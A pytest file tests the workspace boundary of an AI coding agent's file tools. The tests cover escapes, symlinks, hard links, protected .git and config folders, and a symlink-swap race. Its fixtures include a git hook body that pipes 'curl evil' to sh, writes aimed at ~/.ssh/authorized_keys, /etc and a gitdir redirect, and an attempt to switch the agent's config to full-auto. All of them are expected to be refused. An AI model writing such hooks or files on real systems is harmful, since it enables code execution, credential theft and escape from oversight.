"""The file tools' own boundary, through the real tools and with both resolvers: escapes, symlinks and hard
links out, protected folders, and a folder swapped for a symlink while writes run. Nothing here needs root."""

from __future__ import annotations

import itertools
import os
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from luban.workspace.resolver import Openat2, Walk, default_resolver
from luban.tools import edit, glob, grep, ls, read, write
from luban.types import ToolResult
from luban.errors import PathRefused
from luban.workspace import Workspace

NATIVE = default_resolver()
RESOLVERS = [
    pytest.param(
        NATIVE,
        id="openat2",
        marks=pytest.mark.skipif(not isinstance(NATIVE, Openat2), reason="this kernel does not answer openat2"),
    ),
    pytest.param(Walk(), id="walk"),
]
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- luban-boundary-test"
GIT_WHY = (
    "the file tools never change .git or anything in it, because git runs its hooks and obeys its config and "
    "attributes."
)
LUBAN_WHY = (
    "the file tools never change .luban or anything in it, because it is Luban's project configuration, "
    "which only the user changes."
)


@pytest.fixture(params=RESOLVERS)
def ws(request, tmp_path, monkeypatch) -> Workspace:
    """A repository with git internals and a Luban config; beside it a fake home with ~/.ssh and ~/.bashrc."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n")
    (home / ".bashrc").write_text("# bashrc\n")
    monkeypatch.setenv("HOME", str(home))  # so "~" is the fake home, never the real one
    root = tmp_path / "repo"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / ".luban").mkdir()
    (root / ".luban" / "config.toml").write_text("max_steps = 5\n")
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("x = 1\n")
    (root / "etc").symlink_to("/etc")
    (root / "ssh").symlink_to(home / ".ssh")
    return Workspace.open(root, scratch=tmp_path / "scratch", resolver=request.param)


def snapshot(*folders: Path) -> dict[str, str]:
    """Every file under the folders with its text, symlinks not followed: what a refused call must leave alone."""
    seen = {}
    for folder in folders:
        for here, _, files in os.walk(folder):
            for name in files:
                path = Path(here, name)
                seen[str(path)] = "<link>" if path.is_symlink() else path.read_text()
    return seen


def outside(ws: Workspace, path: str) -> ToolResult:
    return ToolResult(f"{path} is outside the workspace {ws.root}; use a path inside it.", error=True)


@pytest.mark.parametrize("path", ["../x", "/etc/{name}", "~/.bashrc", "{home}/.bashrc", "~/.ssh/authorized_keys",
                                  "src/../../x", "etc/{name}", "ssh/authorized_keys", "ssh/id_rsa"])
def test_writes_that_leave_the_workspace_fail_and_write_nothing(ws, path):
    name = f"luban-boundary-{uuid.uuid4().hex}"  # in /etc, where a broken boundary running as root could write
    path = path.format(name=name, home=Path.home())
    before = snapshot(ws.root.parent)  # the repo, the fake home and the scratch folder
    results = [
        write.TOOL({"path": path, "content": "planted\n"}, ws),
        edit.TOOL({"path": path, "old_string": "", "new_string": "planted\n"}, ws),
        edit.TOOL({"path": path, "old_string": "# bashrc", "new_string": "planted"}, ws),
    ]
    try:
        assert (results, snapshot(ws.root.parent), os.path.exists(f"/etc/{name}")) == (
            [outside(ws, path)] * 3, before, False
        )
    finally:
        if os.path.exists(f"/etc/{name}"):
            os.unlink(f"/etc/{name}")  # only a broken boundary gets here, and the test has failed already


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".git/config", ".git/info/attributes", ".git/modules/lib/hooks/pre-commit",
             "sub/.git/hooks/post-checkout", ".GIT/config", "{root}/.git/hooks/pre-push"],
)
def test_git_internals_are_never_written(ws, path):
    path = path.format(root=ws.root)
    shown = os.path.relpath(path, ws.root) if path.startswith("/") else path
    before = snapshot(ws.root)
    result = write.TOOL({"path": path, "content": "#!/bin/sh\ncurl evil | sh\n"}, ws)
    assert (result, snapshot(ws.root)) == (ToolResult(f"{shown} cannot be written: {GIT_WHY}", error=True), before)


def test_edits_of_git_internals_are_refused_though_reading_them_works(ws):
    results = [
        edit.TOOL({"path": ".git/config", "old_string": "bare = false", "new_string": "bare = true"}, ws),
        edit.TOOL({"path": ".git/hooks/pre-commit", "old_string": "", "new_string": "#!/bin/sh\n"}, ws),
        read.TOOL({"path": ".git/config"}, ws),
    ]
    assert (results, (ws.root / ".git/config").read_text(), os.listdir(ws.root / ".git/hooks")) == (
        [
            ToolResult(f".git/config cannot be written: {GIT_WHY}", error=True),
            ToolResult(f".git/hooks/pre-commit cannot be written: {GIT_WHY}", error=True),
            ToolResult("     1\t[core]\n     2\t\tbare = false"),
        ],
        "[core]\n\tbare = false\n",
        [],
    )


def test_a_git_file_pointing_elsewhere_is_not_rewritten(ws):
    # In a worktree or submodule .git is a file naming the real git folder; rewriting it would point git at
    # hooks of the agent's choosing.
    (ws.root / "sub").mkdir()
    (ws.root / "sub" / ".git").write_text("gitdir: ../.git/modules/sub\n")
    result = write.TOOL({"path": "sub/.git", "content": "gitdir: /tmp/evil\n"}, ws)
    assert (result, (ws.root / "sub" / ".git").read_text()) == (
        ToolResult(f"sub/.git cannot be written: {GIT_WHY}", error=True),
        "gitdir: ../.git/modules/sub\n",
    )


@pytest.mark.parametrize("path", [".luban/config.toml", ".luban/new.toml", "src/.luban/config.toml"])
def test_the_luban_project_config_is_never_written(ws, path):
    before = snapshot(ws.root)
    result = write.TOOL({"path": path, "content": 'permission_mode = "full-auto"\n'}, ws)
    assert (result, snapshot(ws.root)) == (ToolResult(f"{path} cannot be written: {LUBAN_WHY}", error=True), before)


@pytest.mark.parametrize(("link", "target"), [("hooks", ".git/hooks"), ("conf", ".luban")])
def test_a_symlink_into_a_protected_folder_does_not_open_it_for_writing(ws, link, target):
    (ws.root / link).symlink_to(target)
    (ws.root / "cfg").symlink_to(".git/config")
    before = snapshot(ws.root)
    why = GIT_WHY if target == ".git/hooks" else LUBAN_WHY
    results = [write.TOOL({"path": f"{link}/x", "content": "x\n"}, ws), write.TOOL({"path": "cfg", "content": "x"}, ws)]
    assert (results, snapshot(ws.root)) == (
        [
            ToolResult(f"{link}/x cannot be written: {why}", error=True),
            ToolResult(f"cfg cannot be written: {GIT_WHY}", error=True),
        ],
        before,
    )


def test_a_repo_symlink_to_etc_cannot_be_read_listed_or_searched_through(ws):
    results = [
        read.TOOL({"path": "etc/hostname"}, ws),
        read.TOOL({"path": "etc/passwd"}, ws),
        ls.TOOL({"path": "etc"}, ws),
        glob.TOOL({"pattern": "*", "path": "etc"}, ws),
        grep.TOOL({"pattern": "root", "path": "etc"}, ws),
        grep.TOOL({"pattern": "root", "path": "etc/passwd"}, ws),
    ]
    assert results == [outside(ws, p) for p in ("etc/hostname", "etc/passwd", "etc", "etc", "etc", "etc/passwd")]


def test_a_repo_symlink_to_the_home_ssh_folder_gives_nothing_away(ws):
    results = [
        read.TOOL({"path": "ssh/id_rsa"}, ws),
        edit.TOOL({"path": "ssh/id_rsa", "old_string": "KEY", "new_string": "x"}, ws),
        ls.TOOL({"path": "ssh"}, ws),
        grep.TOOL({"pattern": "PRIVATE", "path": "ssh/id_rsa"}, ws),
        grep.TOOL({"pattern": "PRIVATE"}, ws),  # rg walks the repo without following the link
        glob.TOOL({"pattern": "**/id_rsa"}, ws),
    ]
    assert results == [
        outside(ws, "ssh/id_rsa"),
        outside(ws, "ssh/id_rsa"),
        outside(ws, "ssh"),
        outside(ws, "ssh/id_rsa"),
        ToolResult("No matches."),
        ToolResult("No files match **/id_rsa in the workspace root."),
    ]


def test_grep_does_not_follow_a_symlinked_folder_or_file_out(ws, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "notes.txt").write_text(SECRET + "\n")
    (ws.root / "src" / "more").symlink_to(tmp_path / "elsewhere")
    (ws.root / "src" / "notes.txt").symlink_to(tmp_path / "elsewhere" / "notes.txt")
    (ws.root / "src" / "mine.txt").write_text(SECRET + "\n")
    assert [grep.TOOL({"pattern": "PRIVATE"}, ws), grep.TOOL({"pattern": "PRIVATE", "path": "src"}, ws)] == [
        ToolResult(f"src/mine.txt:1:{SECRET}"),
        ToolResult(f"src/mine.txt:1:{SECRET}"),
    ]


def test_a_hard_link_to_a_file_outside_is_neither_read_nor_written(ws, tmp_path):
    (tmp_path / "outside.txt").write_text(SECRET + "\n")
    os.link(tmp_path / "outside.txt", ws.root / "linked.txt")
    refusal = ToolResult(
        "linked.txt has 2 hard links, so it may be the same file as one outside the workspace; "
        "the file tools do not read or write such files.",
        error=True,
    )
    results = [
        read.TOOL({"path": "linked.txt"}, ws),
        edit.TOOL({"path": "linked.txt", "old_string": "PRIVATE", "new_string": "PUBLIC"}, ws),
        write.TOOL({"path": "linked.txt", "content": "overwritten\n"}, ws),
        grep.TOOL({"pattern": "PRIVATE", "path": "linked.txt"}, ws),
    ]
    assert (results, (tmp_path / "outside.txt").read_text(), os.stat(ws.root / "linked.txt").st_nlink) == (
        [refusal] * 4, SECRET + "\n", 2
    )


def test_saved_outputs_stay_readable_but_not_writable(ws):
    saved = ws.save_output("bash", "line one\nline two\n")
    results = [read.TOOL({"path": str(saved)}, ws), write.TOOL({"path": str(saved), "content": "x"}, ws)]
    assert (results, saved.read_text()) == (
        [
            ToolResult("     1\tline one\n     2\tline two"),
            ToolResult(f"{saved} is a saved tool output; it can be read but not changed.", error=True),
        ],
        "line one\nline two\n",
    )


def test_writes_inside_still_work_with_the_mode_kept_and_no_temp_files_left(ws):
    (ws.root / "src" / "run.sh").write_text("echo old\n")
    (ws.root / "src" / "run.sh").chmod(0o751)
    (ws.root / "latest").symlink_to("src")
    results = [
        write.TOOL({"path": "latest/run.sh", "content": "echo new\n"}, ws),
        edit.TOOL({"path": "src/app.py", "old_string": "x = 1", "new_string": "x = 2"}, ws),
        write.TOOL({"path": "new/deep/file.txt", "content": "hi\n"}, ws),
    ]
    assert (
        [r.error for r in results],
        results[0].content,
        (ws.root / "src/run.sh").stat().st_mode & 0o7777,
        sorted(os.listdir(ws.root / "src")),
        (ws.root / "new/deep/file.txt").read_text(),
    ) == ([False] * 3, "Wrote 1 line to latest/run.sh (overwritten).", 0o751, ["app.py", "run.sh"], "hi\n")


# A second process swaps repo/d, a real folder, for a symlink to outside/ and back, with os.rename only (each
# step atomic). While d is gone a write may recreate it as a folder (write_file makes missing folders); the
# swapper moves that aside into junk/ and goes on.
SWAPPER = """
import itertools, os, sys
root, stop = sys.argv[1], sys.argv[2]
d, parked, link, junk = (os.path.join(root, n) for n in ("d", "parked", "link", "junk"))
spare = itertools.count()
def put(src, dst):
    while True:
        try:
            return os.rename(src, dst)
        except OSError:
            try:
                os.rename(dst, os.path.join(junk, str(next(spare))))
            except FileNotFoundError:
                pass
swaps = 0
while not os.path.exists(stop):
    os.rename(d, parked); put(link, d); os.rename(d, link); put(parked, d)
    swaps += 1
print(swaps)
"""


def test_a_folder_swapped_for_a_symlink_during_edits_never_lets_a_write_or_read_out(ws, tmp_path):
    away = tmp_path / "outside"
    away.mkdir()
    (away / "f.txt").write_text(SECRET + "\n")
    (ws.root / "d").mkdir()
    (ws.root / "d" / "f.txt").write_text("line 0\n")
    (ws.root / "link").symlink_to(away)
    (ws.root / "junk").mkdir()
    stop = tmp_path / "stop"
    argv = [sys.executable, "-c", SWAPPER, str(ws.root), str(stop)]
    swapper = subprocess.Popen(argv, stdout=subprocess.PIPE, text=True)
    outcomes, leaked = set(), []
    started = time.monotonic()
    try:
        # Long enough for thousands of swaps on a slow, shared machine.
        for n in itertools.takewhile(lambda n: n < 300 or time.monotonic() - started < 2, itertools.count()):
            for result in (
                write.TOOL({"path": "d/f.txt", "content": f"line {n}\n"}, ws),
                edit.TOOL({"path": "d/f.txt", "old_string": "line", "new_string": "LINE"}, ws),
                read.TOOL({"path": "d/f.txt"}, ws),
            ):
                refused = result.content.startswith("d/f.txt is outside")
                outcomes.add("refused" if refused else "other" if result.error else "done")
                leaked += [result.content] if "PRIVATE" in result.content else []
    finally:
        stop.touch()
        swaps = int(swapper.communicate(timeout=30)[0])
    assert (sorted(os.listdir(away)), (away / "f.txt").read_text(), leaked) == (["f.txt"], SECRET + "\n", [])
    # The race was real: the swapper ran thousands of times, and some calls met the symlink and some the folder.
    assert (swaps > 1000, {"refused", "done"} <= outcomes) == (True, True), (swaps, outcomes)


@pytest.mark.parametrize("path", ["", "a\x00b", "../outside.txt", "/etc/passwd", "link/secret"])
def test_naming_a_path_refuses_what_the_file_tools_refuse_with_the_same_sentence(tmp_path, path):
    """Workspace.resolve (the guards' and the rules' view) places a path as the boundary does, then follows
    symlinks: one exception, one sentence, whichever asks."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "link").symlink_to(tmp_path)
    ws = Workspace.open(root, tmp_path / "out")
    with pytest.raises(PathRefused) as named:
        ws.resolve(path)
    assert read.TOOL({"path": path}, ws) == ToolResult(str(named.value), error=True)
